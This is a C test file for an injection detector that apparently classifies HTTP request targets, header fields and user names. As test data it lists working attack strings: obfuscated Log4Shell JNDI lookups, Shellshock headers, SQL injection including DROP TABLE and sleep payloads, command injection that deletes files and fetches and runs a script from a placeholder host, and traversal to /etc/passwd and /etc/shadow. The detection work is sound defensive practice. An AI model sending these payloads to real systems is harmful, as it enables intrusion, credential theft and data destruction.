/* test_injected_text.c - texts that are meant to be executed, as advisories and tools' manuals write them, and texts
 * of people who write about something
 * SPDX-License-Identifier: GPL-2.0-or-later
 */
#include "wireshark/protocols/injected_text.h"

#include <string.h>

/* Of a copy, so that a sanitizer sees what is read beyond. */
static HgInjectionKind in_target(const char *text) {
  guint8 *copy = g_memdup2(text, strlen(text));
  const HgInjectionKind kind = hg_injected_in_target(copy, strlen(text));
  g_free(copy);
  return kind;
}

static HgInjectionKind in_fields(const char *text) {
  guint8 *copy = g_memdup2(text, strlen(text));
  const HgInjectionKind kind = hg_injected_in_fields(copy, strlen(text));
  g_free(copy);
  return kind;
}

static void check_targets(const char *const *targets, HgInjectionKind kind) {
  for (; *targets != NULL; targets++) {
    if (in_target(*targets) != kind)
      g_error("%s: %d, not %d", *targets, in_target(*targets), kind);
  }
}

/* LunaSec, Cloudflare and others on CVE-2021-44228. */
static void test_lookups(void) {
  static const char *const targets[] = {
      "/?x=${jndi:ldap://192.0.2.1/a}",
      "/%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D",
      "/?x=%2524%257Bjndi:dns://192.0.2.1%257D",
      "/?x=${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://192.0.2.1/a}",
      "/?x=${${::-j}${::-n}${::-d}${::-i}:rmi://192.0.2.1/a}",
      "/?x=${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//192.0.2.1/a}",
      "/?x=${JNDI:LDAP://192.0.2.1/a",
      NULL};
  check_targets(targets, HG_INJECTION_JNDI);
  g_assert_cmpint(in_target("/?x=${user.name}"), ==, HG_INJECTION_NONE);
  g_assert_cmpint(in_target("/?x=jndi:ldap"), ==, HG_INJECTION_NONE);
}

static void test_fields(void) {
  g_assert_cmpint(in_fields("GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://192.0.2.1/a}\r\n"), ==,
                  HG_INJECTION_JNDI);
  g_assert_cmpint(in_fields("GET / HTTP/1.1\r\nUser-Agent: () { :; }; echo x\r\n"), ==,
                  HG_INJECTION_SHELL_SHOCK);
  g_assert_cmpint(in_fields("GET / HTTP/1.1\r\nA: b\r\nCookie:() { _; } >_[$($())] { id; }\r\n"),
                  ==, HG_INJECTION_SHELL_SHOCK);
  g_assert_cmpint(in_fields("GET / HTTP/1.1\r\nA: function() { return }\r\n"), ==,
                  HG_INJECTION_NONE);
  g_assert_cmpint(in_fields("GET / HTTP/1.1\r\nA: Mozilla/5.0 () x\r\n"), ==, HG_INJECTION_NONE);
  g_assert_cmpint(in_fields("GET /?x=${jndi:a} HTTP/1.1\r\nA: b\r\n"), ==, HG_INJECTION_NONE);
  g_assert_cmpint(in_fields("GET / HTTP/1.1"), ==, HG_INJECTION_NONE);
}

/* Payloads of sqlmap and of OWASP's testing guide. */
static void test_sql(void) {
  static const char *const targets[] = {"/a?id=1%20AND%204283%3D4283",
                                        "/a?id=1'%20OR%20'1'%3D'1",
                                        "/a?id=1)%20AND%205=6%20AND%20(1=1",
                                        "/a?id=-1%20UNION%20ALL%20SELECT%20NULL,NULL--%20-",
                                        "/a?id=1/**/UNION/**/SELECT/**/2",
                                        "/a?id=1+UnIoN+sElEcT+2",
                                        "/a?id=1%20AND%20SLEEP(5)",
                                        "/a?id=1;SELECT%20PG_SLEEP(5)--",
                                        "/a?id=1;begin%20dbms_session.sleep(5);end;",
                                        "/a?id=1'%20WAITFOR%20DELAY%20'0:0:5'--",
                                        "/a?u=admin'--",
                                        "/a?id=1';DROP%20TABLE%20users",
                                        "/a?id=EXTRACTVALUE(3,CONCAT(0x5c,0x71))",
                                        "/a?id=1%20ORDER%20BY%203--%20-",
                                        NULL};
  check_targets(targets, HG_INJECTION_SQL);
}

static void test_commands(void) {
  static const char *const certain[] = {
      "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/x.sh;sh+x.sh",
      "/ping?host=1.1.1.1;cat%20/etc/passwd",
      "/ping?host=`wget%20http://192.0.2.1/x`",
      "/cgi-bin/;wget${IFS}http://192.0.2.1/m",
      "/scripts/..%255c../winnt/system32/cmd.exe?/c+dir",
      "/index.php?s=/index/invoke&vars[1][]=cmd.exe+/c+dir",
      "/shell.jsp?cmd=cat+/etc/passwd",
      "/ping?host=x|/bin/cat+/etc/shadow",
      "/ping?host=$(cat+/etc/passwd)",
      NULL};
  static const char *const likely[] = {
      "/ping?host=1.1.1.1;ls+-la", "/ping?host=1.1.1.1%26%26uname+-a",  "/ping?host=$(id)",
      "/ping?host=`id`",           "/ping?host=1.1.1.1|cat+/etc/issue", NULL};
  check_targets(certain, HG_INJECTION_EXECUTION);
  check_targets(likely, HG_INJECTION_COMMAND);
}

/* OWASP, path traversal; CVE-2021-41773; Tomcat's "..;". */
static void test_paths(void) {
  static const char *const files[] = {"/download?file=../../../../etc/passwd",
                                      "/..%2f..%2f..%2f..%2fetc/shadow",
                                      "/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
                                      "/%252e%252e/%252e%252e/%252e%252e/etc/hosts",
                                      "/?f=..%c0%af..%c0%afetc/passwd",
                                      "/?f=....//....//....//etc/passwd",
                                      "/?f=..\\..\\..\\windows\\win.ini",
                                      "/a/..;/..;/..;/WEB-INF/web.xml",
                                      NULL};
  static const char *const traversals[] = {"/a/../../../../b", "/?f=../../../b.txt", NULL};
  check_targets(files, HG_INJECTION_FILE);
  check_targets(traversals, HG_INJECTION_TRAVERSAL);
}

static void test_harmless(void) {
  static const char *const targets[] = {"/",
                                        "",
                                        "/index.html?a=b&c=d",
                                        "/a/../b.css",
                                        "/docs?next=../../index.html",
                                        "/search?q=the+union+selected+a+president",
                                        "/search?q=rock+or+pop",
                                        "/search?q=it's+time",
                                        "/search?q=/etc/passwd",
                                        "/search?q=how+to+cat+/etc/passwd+by+line",
                                        "/search?q=difference+of+cmd.exe+/c+and+/k",
                                        "/search?q=python+time.sleep(10)+blocks",
                                        "/search?q=Thread.sleep(",
                                        "/w/api.php?titles=Dog|Cat&prop=info|ids",
                                        "/x?fields=name;id;type",
                                        "/x?family=Open+Sans:400,700|Roboto",
                                        "/map?bbox=1,2,3,4&layers=a;b",
                                        "/adminer.php?sql=SELECT+a+FROM+x+UNION+SELECT+b+FROM+y",
                                        "/x?callback=jQuery(function(){})",
                                        "/x?q=cats+and+2+dogs",
                                        "/rest/search?jql=project%3D%22ABC%22+and+status%3DOpen",
                                        "/odata?$filter=name+eq+'x'+and+y+eq+2",
                                        "/x?color=%22%23ff0000%22",
                                        "/translate?q=the+dog;+cat+is+there%0Asleep+well",
                                        "/?price=10$&currency={usd}",
                                        "/%E4%B8%AD?x=%",
                                        "/x?d=2020-01-01;+12:00",
                                        NULL};
  check_targets(targets, HG_INJECTION_NONE);
}

static void test_users(void) {
  g_assert_cmpint(hg_injected_in_user("${jndi:ldap://192.0.2.1/a}"), ==, HG_INJECTION_JNDI);
  g_assert_cmpint(hg_injected_in_user("admin' or '1'='1"), ==, HG_INJECTION_SQL);
  g_assert_cmpint(hg_injected_in_user("admin'-- "), ==, HG_INJECTION_SQL);
  g_assert_cmpint(hg_injected_in_user("alice"), ==, HG_INJECTION_NONE);
  g_assert_cmpint(hg_injected_in_user("O'Brien"), ==, HG_INJECTION_NONE);
  g_assert_cmpint(hg_injected_in_user("${user}"), ==, HG_INJECTION_NONE);
  g_assert_cmpint(hg_injected_in_user(""), ==, HG_INJECTION_NONE);
}

/* Nothing takes long, or more than is there. */
static void test_hostile(void) {
  static const char *const pieces[] = {"${",  "${a:-",  "../",  "'or(", "%",
                                       "%25", ";wget ", "/**/", "((((", "${lower:${"};
  for (guint i = 0; i < G_N_ELEMENTS(pieces); i++) {
    GString *text = g_string_new("/?x=");
    while (text->len < 20000)
      g_string_append(text, pieces[i]);
    in_target(text->str);
    in_fields(text->str);
    hg_injected_in_user(text->str);
    g_string_free(text, TRUE);
  }
  hg_injected_in_target((const guint8 *)"/\0'or'1'='1", 12);
}

int main(int argc, char **argv) {
  g_test_init(&argc, &argv, NULL);
  g_test_add_func("/injected-text/lookups", test_lookups);
  g_test_add_func("/injected-text/fields", test_fields);
  g_test_add_func("/injected-text/sql", test_sql);
  g_test_add_func("/injected-text/commands", test_commands);
  g_test_add_func("/injected-text/paths", test_paths);
  g_test_add_func("/injected-text/harmless", test_harmless);
  g_test_add_func("/injected-text/users", test_users);
  g_test_add_func("/injected-text/hostile", test_hostile);
  return g_test_run();
}
